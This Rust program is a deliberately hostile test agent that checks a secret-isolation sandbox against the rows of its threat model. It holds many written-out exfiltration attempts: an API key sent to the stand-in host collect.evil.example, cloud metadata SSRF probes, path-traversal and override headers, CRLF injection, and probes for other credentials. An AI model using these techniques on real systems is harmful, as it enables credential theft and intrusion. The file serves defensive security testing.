//! A hostile agent: tries what `SECURITY.md` says it can't do, and prints what came of each attempt.
//!
//! Each line of its output is `row | attempt | what it got`; the rows are those of the threat model.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use strongroom_guest::http::{Request, get, post, request};
use strongroom_guest::{Error, Secret, log};

const EVIL: &str = "https://collect.evil.example";
const API: &str = "https://api.purpleflea.com";

fn main() {
    row_1();
    let Ok(key) = Secret::open("PURPLEFLEA_API_KEY") else {
        println!("0 | opens its own secret | unavailable");
        return;
    };
    let p = key.placeholder();
    for (row, attempt, request) in attempts(&key, &p) {
        report(row, attempt, request.send().and_then(|answer| Ok(format!("{} {}", answer.status(), answer.text()?))));
    }
    row_6(&key);
    row_15();
    row_12(&key);
}

fn report(row: u32, attempt: &str, result: Result<String, Error>) {
    let got = match result {
        Ok(text) => format!("answered {}", text.chars().take(120).collect::<String>()),
        Err(error) => error.to_string(),
    };
    println!("{row} | {attempt} | {got}");
}

/// Everything that an environment dump would take.
fn row_1() {
    for (name, value) in std::env::vars() {
        println!("1 | environment | {name}={value}");
    }
    for argument in std::env::args() {
        println!("1 | argument | {argument}");
    }
    let files = std::fs::read_dir("/").map(|entries| entries.count());
    println!("1 | reads the root directory | {files:?}");
    let socket = std::net::TcpStream::connect("127.0.0.1:80").map(|_| ());
    println!("1 | opens a socket | {socket:?}");
}

/// Rows 2 to 5, 9, 10 and 19: requests that must not take the key along.
fn attempts(key: &Secret, p: &str) -> Vec<(u32, &'static str, Request)> {
    let (first, second) = p.split_at(p.len() / 2);
    let coded = STANDARD.encode(p);
    let percent: String = p.bytes().map(|b| format!("%{b:02X}")).collect();
    let theirs = "pf_live_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
    vec![
        (2, "another host, as a bearer", get(format!("{EVIL}/")).bearer(key)),
        (2, "another host, in the path", get(format!("{EVIL}/{p}"))),
        (2, "another host, in the query", get(format!("{EVIL}/?k={p}"))),
        (2, "another host, in the body", post(format!("{EVIL}/")).body(p)),
        (2, "another host, as a host label", get(format!("https://{}.evil.example/", p.replace('_', "-")))),
        (2, "another host, as user information", get(format!("https://{p}@collect.evil.example/"))),
        (2, "another host, as a header's name", get(format!("{EVIL}/")).header(p, "1")),
        (2, "another host, in a cookie", get(format!("{EVIL}/")).header("cookie", p)),
        (3, "right host, wrong header", get(format!("{API}/v1/echo")).secret_header("x-debug", key)),
        (3, "right host, in the query", get(format!("{API}/v1/echo")).secret_query("key", key)),
        (3, "right host, in the path", get(format!("{API}/v1/{p}"))),
        (3, "right host, method not granted", request("DELETE", format!("{API}/v1/orders")).bearer(key)),
        (3, "right host, path not granted", get(format!("{API}/admin/keys")).bearer(key)),
        (3, "right host, twice", get(format!("{API}/v1/echo")).bearer(key).bearer(key)),
        (3, "right host, inside a longer value", get(format!("{API}/v1/echo")).header("authorization", format!("Bearer AAAA{p}"))),
        (3, "right host, in the body", post(format!("{API}/v1/echo")).body(format!("my key is {p}"))),
        (4, "split over two headers", get(format!("{API}/v1/echo")).header("x-a", first).header("x-b", second)),
        (4, "in upper case", get(format!("{API}/v1/echo")).header("authorization", format!("Bearer {}", p.to_uppercase()))),
        (4, "percent-encoded in the query", get(format!("{API}/v1/echo?k={percent}"))),
        (4, "in base64 in a body", post(format!("{API}/v1/echo")).body(coded)),
        (5, "a guessed placeholder", get(format!("{API}/v1/echo")).header("authorization", format!("Bearer {theirs}"))),
        (9, "a granted name that leads to 169.254.169.254", get("https://rebound.example/latest/meta-data/")),
        (9, "the metadata address itself", get("http://169.254.169.254/latest/meta-data/")),
        (9, "an address in decimal", get("http://2852039166/")),
        (10, "dot segments", get(format!("{API}/v1/../admin/keys")).bearer(key)),
        (10, "encoded dot segments", get(format!("{API}/v1/%2e%2e/admin/keys")).bearer(key)),
        (10, "an encoded slash", get(format!("{API}/v1/..%2fadmin")).bearer(key)),
        (10, "a path parameter", get(format!("{API}/v1/..;/admin")).bearer(key)),
        (10, "a method override", post(format!("{API}/v1/orders")).bearer(key).header("x-http-method-override", "DELETE")),
        (10, "a URL override", get(format!("{API}/v1/echo")).bearer(key).header("x-original-url", "/admin/keys")),
        (10, "a Host of its own", get(format!("{API}/v1/echo")).bearer(key).header("host", "collect.evil.example")),
        (10, "a line break in a header", get(format!("{API}/v1/echo")).bearer(key).header("x-a", "1\r\nhost: evil")),
        (19, "its own key in the granted place", post(format!("{API}/v1/notes")).header("authorization", format!("Bearer {theirs}"))),
        (19, "its own key at an egress destination", post("https://news.example/upload").header("x-api-key", theirs)),
    ]
}

/// Follows a redirect to its own host by hand, taking the placeholder along.
fn row_6(key: &Secret) {
    match get(format!("{API}/v1/redirect")).bearer(key).send() {
        Err(error) => report(6, "a redirect", Err(error)),
        Ok(answer) => {
            let to = answer.header("location").unwrap_or_default();
            println!("6 | a redirect | answered {} to {to}, not followed", answer.status());
            report(6, "follows it by hand", get(to).bearer(key).send().map(|answer| answer.status().to_string()));
        }
    }
}

/// Looks for secrets that are another's, or nobody's.
fn row_15() {
    for name in ["OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "no such name"] {
        let result = Secret::open(name).map(|_| "open".to_owned());
        report(15, &format!("opens {name}"), result);
    }
}

/// Has the API echo the key, and sends what came back everywhere it can.
fn row_12(key: &Secret) {
    let echo = get(format!("{API}/v1/echo")).bearer(key).send().and_then(|answer| answer.text()).unwrap_or_default();
    println!("12 | prints an echo | {echo}");
    eprintln!("12 | prints it to stderr | {echo}");
    log::warn("12 | logs it", &[("echo", &echo)]);
    panic!("12 | panics with it: {echo}");
}
